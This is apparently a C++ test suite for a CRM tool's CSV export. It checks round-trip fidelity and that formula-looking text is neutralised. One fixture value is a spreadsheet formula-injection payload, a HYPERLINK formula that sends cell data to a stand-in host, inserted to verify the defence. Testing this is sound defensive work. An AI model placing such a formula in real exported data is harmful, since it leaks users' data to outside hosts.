// vafa export: a demo workspace exported and imported into a fresh store
// gives the same customers, orders, lines and interactions, field by field,
// and the same analysis reports; the files vafa cannot import yet hold
// what the store holds, with formula-looking text made safe.
#include <gmock/gmock.h>
#include <soci/soci.h>

#include <filesystem>
#include <fstream>
#include <sstream>

#include "store/store_test_support.h"
#include "tests/cli/run_command.h"
#include "tests/cli/store_rows.h"

namespace vafa {
namespace {

using ::testing::HasSubstr;

std::string Slurp(const std::filesystem::path& path) {
  std::ifstream in(path);
  std::stringstream text;
  text << in.rdbuf();
  return text.str();
}

using testing::Rows;

// What must survive the round trip, keyed by external ids (internal ids
// are the new store's own).
constexpr char kCustomerFields[] =
    "SELECT c.external_id, c.kind, c.first_name, c.last_name, "
    "c.organisation_name, p.external_id, c.national_id, c.phone, c.email, "
    "c.gender, c.birth_date, c.city, c.province, c.acquisition_channel, "
    "c.acquisition_cost_minor, c.joined_at, c.language FROM customers c "
    "LEFT JOIN customers p ON p.id = c.parent_id ORDER BY c.external_id";
constexpr char kOrderFields[] =
    "SELECT o.external_id, c.external_id, o.ordered_at, o.channel, o.branch, "
    "o.currency, o.total_minor, o.discount_minor, o.cost_minor, "
    "o.line_count FROM orders o JOIN customers c ON c.id = o.customer_id "
    "ORDER BY o.external_id";
constexpr char kLineFields[] =
    "SELECT o.external_id, l.line_no, p.sku, p.name, p.category, l.quantity, "
    "l.amount_minor, l.discount_minor, l.cost_minor FROM order_lines l "
    "JOIN orders o ON o.id = l.order_id JOIN products p ON "
    "p.id = l.product_id ORDER BY o.external_id, l.line_no";
constexpr char kInteractionFields[] =
    "SELECT i.external_id, c.external_id, i.occurred_at, i.type, i.channel, "
    "i.direction, i.subject, i.outcome FROM interactions i JOIN customers c "
    "ON c.id = i.customer_id ORDER BY i.external_id";

class ExportTest : public store::BackendTest {
 protected:
  void SetUp() override {
    BackendTest::SetUp();
    if (IsSkipped() || HasFatalFailure()) return;
    folder_ = std::filesystem::temp_directory_path() /
              ("vafa_export_" + std::to_string(getpid()) + "_" +
               store::BackendName(GetParam()));
    std::filesystem::create_directories(folder_);
    auto demo =
        testing::RunVafa({"--db", scratch_->location(), "demo", "--customers",
                          "300", "--seed", "5", "--end", "2026-11-20"});
    ASSERT_EQ(demo.exit_code, 0) << demo.output;
  }
  void TearDown() override { std::filesystem::remove_all(folder_); }

  // Rows the demo does not make, with text a spreadsheet would run.
  void AddServiceSalesAndMarketingRows() {
    soci::session& sql = db().sql();
    long long ws = 0;
    long long customer = 0;
    sql << "SELECT id FROM workspaces WHERE slug = 'demo'", soci::into(ws);
    sql << "SELECT MIN(id) FROM customers", soci::into(customer);
    sql << "SELECT external_id FROM customers WHERE id = :c",
        soci::use(customer), soci::into(customer_key_);
    const std::string w = std::to_string(ws);
    const std::string c = std::to_string(customer);
    sql << "INSERT INTO tickets (workspace_id, customer_id, external_id, "
           "subject, description, type, channel, priority, status, opened_at, "
           "first_response_due_at, resolution_due_at, created_at) VALUES (" +
               w + ", " + c +
               ", 'T-1', '=HYPERLINK(\"http://x/?\"&E2,\"open\")', "
               "'two\nlines, \"quoted\"', 'question', 'phone', 'high', 'open', "
               "1700000000, 1700003600, 1700086400, 1700000000)";
    sql << "INSERT INTO deals (workspace_id, customer_id, external_id, title, "
           "pipeline, stage, status, probability, value_minor, "
           "expected_close_at, stage_entered_at, created_at) VALUES (" +
               w + ", " + c +
               ", 'D-1', '+98 order', 'default', 'proposal', 'open', 50, "
               "12345670, 1701000000, 1700000000, 1700000000)";
    sql << "INSERT INTO loyalty_ledger (workspace_id, customer_id, kind, "
           "points, reason, at, created_by, created_at) VALUES (" +
               w + ", " + c +
               ", 'adjust', -40, '@once', 1700000000, 'cli', 1700000000)";
    sql << "INSERT INTO campaigns (workspace_id, name, channel, status, "
           "budget_minor, starts_at, ends_at, attribution_days, "
           "control_percent, created_at) VALUES (" +
               w +
               ", '-10% off', 'sms', 'draft', 5000000, 1700000000, "
               "1702592000, 30, 10, 1700000000)";
    long long campaign = 0;
    sql << "SELECT MAX(id) FROM campaigns", soci::into(campaign);
    sql << "INSERT INTO campaign_members (workspace_id, campaign_id, "
           "customer_id, control, converted_at, revenue_minor) VALUES (" +
               w + ", " + std::to_string(campaign) + ", " + c +
               ", 1, 1700500000, 990000)";
    sql << "INSERT INTO surveys (workspace_id, name, kind, status, min_group, "
           "created_at) VALUES (" +
               w + ", 'After purchase', 'nps', 'open', 5, 1700000000)";
    long long survey = 0;
    sql << "SELECT MAX(id) FROM surveys", soci::into(survey);
    survey_ = std::to_string(survey);
    campaign_ = std::to_string(campaign);
    sql << "INSERT INTO survey_responses (workspace_id, survey_id, "
           "customer_id, score, answers, comment, answered_at, created_at) "
           "VALUES (" +
               w + ", " + survey_ + ", " + c +
               ", 9, '{\"q1\":4}', '-1 star?', 1700000000, 1700000000)";
    long long response = 0;
    sql << "SELECT MAX(id) FROM survey_responses", soci::into(response);
    response_ = std::to_string(response);
  }

  std::filesystem::path folder_;
  std::string customer_key_;
  std::string survey_;
  std::string campaign_;
  std::string response_;
};

// The file begins with `header` and has `row` as one of its lines.
void ExpectFile(const std::filesystem::path& path, const std::string& header,
                const std::string& row) {
  const std::string text = Slurp(path);
  EXPECT_EQ(text.substr(0, header.size() + 1), header + "\n") << path;
  EXPECT_THAT(text, HasSubstr("\n" + row + "\n")) << path;
}

TEST_P(ExportTest, ExportImportsIntoAFreshStoreWithTheSameReports) {
  auto exported = testing::RunVafa({"--db", scratch_->location(), "export",
                                    "--out", (folder_ / "out").string()});
  ASSERT_EQ(exported.exit_code, 0) << exported.output;
  long long customers = 0;
  db().sql() << "SELECT COUNT(*) FROM customers WHERE deleted_at IS NULL",
      soci::into(customers);
  EXPECT_THAT(exported.output, HasSubstr("customers.csv\t" +
                                         std::to_string(customers) + " rows"));

  // A fresh store: a new file, or a new PostgreSQL database.
  std::string why;
  auto fresh = store::ScratchDatabase::Create(GetParam(), &why);
  ASSERT_NE(fresh, nullptr) << why;
  for (const char* kind : {"customers", "transactions", "interactions"}) {
    auto imported = testing::RunVafa(
        {"--db", fresh->location(), "import", kind,
         (folder_ / "out" / (std::string(kind) + ".csv")).string()});
    ASSERT_EQ(imported.exit_code, 0) << kind << ": " << imported.output;
  }
  for (const char* query :
       {kCustomerFields, kOrderFields, kLineFields, kInteractionFields}) {
    auto source = Rows(db(), query);
    EXPECT_GT(source.size(), 100u) << query;
    EXPECT_EQ(Rows(fresh->db(), query), source) << query;
  }

  auto source_reports =
      testing::RunVafa({"--db", scratch_->location(), "analyze", "--out",
                        (folder_ / "source").string()});
  ASSERT_EQ(source_reports.exit_code, 0) << source_reports.output;
  auto copy_reports = testing::RunVafa({"--db", fresh->location(), "analyze",
                                        "--out", (folder_ / "copy").string()});
  ASSERT_EQ(copy_reports.exit_code, 0) << copy_reports.output;
  int compared = 0;
  for (const auto& entry :
       std::filesystem::directory_iterator(folder_ / "source")) {
    const std::string name = entry.path().filename().string();
    std::string report = Slurp(entry.path());
    EXPECT_GT(std::count(report.begin(), report.end(), '\n'), 1) << name;
    EXPECT_TRUE(report == Slurp(folder_ / "copy" / name)) << name << " differs";
    ++compared;
  }
  EXPECT_GE(compared, 7);
}

TEST_P(ExportTest, FilesWithoutAnImporterHoldTheStoreFormulaSafe) {
  AddServiceSalesAndMarketingRows();
  const auto out = folder_ / "out";
  auto exported = testing::RunVafa(
      {"--db", scratch_->location(), "export", "--out", out.string()});
  ASSERT_EQ(exported.exit_code, 0) << exported.output;
  const std::string& k = customer_key_;
  ExpectFile(out / "tickets.csv",
             "ticket_id,customer_id,subject,description,type,channel,category,"
             "priority,status,assignee,team,opened_at,first_response_at,"
             "resolved_at,closed_at,first_response_due_at,resolution_due_at,"
             "reopen_count,satisfaction,created_at,updated_at",
             "T-1," + k +
                 ",\"'=HYPERLINK(\"\"http://x/?\"\"&E2,\"\"open\"\")\","
                 "\"two\nlines, \"\"quoted\"\"\",question,phone,,high,open,,,"
                 "2023-11-14T22:13:20Z,,,,2023-11-14T23:13:20Z,"
                 "2023-11-15T22:13:20Z,0,,2023-11-14T22:13:20Z,");
  ExpectFile(out / "deals.csv",
             "deal_id,customer_id,title,pipeline,stage,status,probability,"
             "value,owner,team,source,expected_close_at,stage_entered_at,"
             "closed_at,close_reason,created_at,updated_at",
             "D-1," + k +
                 ",'+98 order,default,proposal,open,50,12345670,,,,"
                 "2023-11-26T12:00:00Z,2023-11-14T22:13:20Z,,,"
                 "2023-11-14T22:13:20Z,");
  const std::string ledger = Slurp(out / "loyalty_ledger.csv");
  EXPECT_THAT(ledger, HasSubstr("," + k +
                                ",adjust,-40,,,'@once,"
                                "2023-11-14T22:13:20Z,,cli,"
                                "2023-11-14T22:13:20Z\n"));
  EXPECT_EQ(ledger.substr(0, ledger.find('\n')),
            "entry_id,customer_id,kind,points,order_id,source_entry_id,reason,"
            "at,expires_at,created_by,created_at");
  ExpectFile(out / "campaigns.csv",
             "campaign_id,name,goal,channel,segment,status,offer,budget,cost,"
             "starts_at,ends_at,attribution_days,control_percent,"
             "members_count,control_count,drawn_at,created_at",
             campaign_ +
                 ",'-10% off,,sms,,draft,,5000000,0,2023-11-14T22:13:20Z,"
                 "2023-12-14T22:13:20Z,30,10,0,0,,2023-11-14T22:13:20Z");
  ExpectFile(out / "campaign_members.csv",
             "campaign_id,customer_id,control,responded_at,converted_at,"
             "revenue",
             campaign_ + "," + k + ",1,,2023-11-20T17:06:40Z,990000");
  ExpectFile(out / "survey_answers.csv",
             "response_id,survey_id,survey,survey_kind,customer_id,ticket_id,"
             "campaign_id,respondent_group,channel,branch,score,answers,"
             "comment,answered_at",
             response_ + "," + survey_ + ",After purchase,nps," + k +
                 ",,,,,,9,\"{\"\"q1\"\":4}\",'-1 star?,"
                 "2023-11-14T22:13:20Z");
  // Every stored row is in its file (one line each where no text holds a
  // line break).
  for (const auto& [file, table] :
       std::vector<std::pair<std::string, std::string>>{
           {"deals.csv", "deals WHERE deleted_at IS NULL"},
           {"loyalty_ledger.csv", "loyalty_ledger"},
           {"campaign_members.csv", "campaign_members"},
           {"survey_answers.csv", "survey_responses"}}) {
    long long rows = 0;
    db().sql() << "SELECT COUNT(*) FROM " + table, soci::into(rows);
    EXPECT_THAT(exported.output,
                HasSubstr(file + "\t" + std::to_string(rows) + " rows"));
    const std::string text = Slurp(out / file);
    EXPECT_EQ(std::count(text.begin(), text.end(), '\n'), rows + 1) << file;
  }
  // Nothing is overwritten.
  auto again = testing::RunVafa(
      {"--db", scratch_->location(), "export", "--out", out.string()});
  EXPECT_EQ(again.exit_code, 1);
  EXPECT_THAT(again.output, HasSubstr("exists already"));
}

VAFA_INSTANTIATE_BACKEND_TEST(ExportTest);

}  // namespace
}  // namespace vafa
